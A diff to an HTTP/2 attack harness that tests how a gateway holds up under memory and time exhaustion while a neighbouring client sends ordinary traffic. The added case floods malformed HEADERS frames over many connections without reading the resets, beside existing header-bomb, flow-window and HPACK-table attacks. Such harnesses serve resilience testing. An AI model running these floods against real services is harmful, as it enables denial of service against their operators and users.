@@ -1,7 +1,8 @@
 """Attackers that make a gateway hold memory or use its time, beside a client that sends 50 requests a
 second.
 
-The attacks: compressed headers that expand, answers behind closed windows, unfinished bodies, and full HPACK tables.
+The attacks: compressed headers that expand, answers behind closed windows, unfinished bodies, full HPACK tables,
+and resets that are not read.
 
 usage: hostile_memory.py CASE SPECIFICATION
 
@@ -161,6 +162,21 @@ def tables_held():
         yield connect(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
 
 
+def resets_unread():
+    """Malformed requests whose resets are not read."""
+    block = field(":method", "GET") + field(":scheme", "http")
+    data = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 20_001, 2))
+    for _ in range(20):
+        connection = connect()
+        yield connection
+        connection.settimeout(0.5)
+        for number in range(20):
+            shifted = data if number == 0 else b"".join(
+                frame(HEADERS, END_HEADERS | END_STREAM, stream + number * 20_000, block) for stream in range(1, 20_001, 2))
+            if not send(connection, shifted):
+                break
+
+
 def play(attack):
     client = neighbour()
     time.sleep(1)
@@ -192,5 +208,5 @@ def play(attack):
     return "; ".join(figures + [client.end(since=begin)])
 
 
-cases = {case.__name__: case for case in (headers_held, headers_decoded, answers_held, answers_of_one_user, bodies_held, tables_held)}
+cases = {case.__name__: case for case in (headers_held, headers_decoded, answers_held, answers_of_one_user, bodies_held, tables_held, resets_unread)}
 print("ok", play(cases[sys.argv[1]]), flush=True)
